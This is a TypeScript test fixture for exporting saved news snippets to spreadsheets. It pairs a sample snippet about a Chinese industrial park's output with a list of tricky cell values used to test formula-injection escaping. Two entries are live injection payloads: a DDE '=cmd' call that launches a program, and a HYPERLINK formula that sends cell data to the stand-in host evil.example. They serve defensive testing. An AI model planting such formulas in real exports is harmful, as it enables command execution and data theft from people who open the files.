import type { ExportSnippet } from '../../../lib/export/snippet';

export const sentence = '示例高新区去年完成产值约28.49亿元，由示例研究院参与。';

/** A saved sentence with a park, an amount and its fact. */
export function sampleSnippet(changes: Partial<ExportSnippet> = {}): ExportSnippet {
  const amount = { value: '2849000000', currency: 'CNY', qualifier: 'about' } as const;
  return {
    id: '5b0b5f6e-6f0a-4c39-9f5e-0f6d3f1f2a10',
    text: '28.49亿元',
    kind: 'money',
    sentence,
    mentions: [
      { start: 0, end: 5, kind: 'park', text: '示例高新区' },
      { start: 12, end: 19, kind: 'money', text: '28.49亿元', amount },
    ],
    facts: [
      {
        start: 12,
        end: 19,
        text: '28.49亿元',
        ...amount,
        metric: '产值',
        subject: ['示例高新区', '示例研究院'],
        period: '去年',
        year: 2020,
        status: 'actual',
      },
    ],
    selectors: [
      { type: 'TextQuoteSelector', exact: sentence, prefix: '前文。', suffix: '后文' },
      { type: 'TextPositionSelector', start: 3, end: 3 + sentence.length },
    ],
    page: {
      url: 'https://www.example.gov.cn/a.html',
      title: '标题，含逗号与"引号"',
      outlet: '示例日报',
      author: '张三',
      publishedAt: '2021-01-18',
    },
    note: '第一行\n第二行',
    tags: ['半导体', '产值'],
    savedAt: '2026-01-02T03:04:05.000Z',
    ...changes,
  };
}

/** Cells that have run as formulas, or have been changed on reading, in one spreadsheet or another. */
export const hostileCells = [
  '=1+2',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"点击")',
  '+86 10 1234',
  '-2+3',
  '-甲',
  '@SUM(A1:A9)',
  '\t=1+2',
  '\r=1+2',
  '\n=1+2',
  '＝1+2',
  '＋1',
  '－1',
  '＠甲',
  '  =1+2',
  '\u3000=1+2',
  '\u00a0@A1',
  "'=1+2",
  "''=1+2",
  '";=1+2',
  '"=1+2"',
  '1234567890123456789',
  '-12345678901234567',
  '000123',
  '12E5',
  '1/2',
  '3-5',
  '2020-12',
  '1/2/2021',
  '12:30',
  '(5)',
  '1,234',
  '第一行\n=第二行\r\n"第三行",完',
] as const;
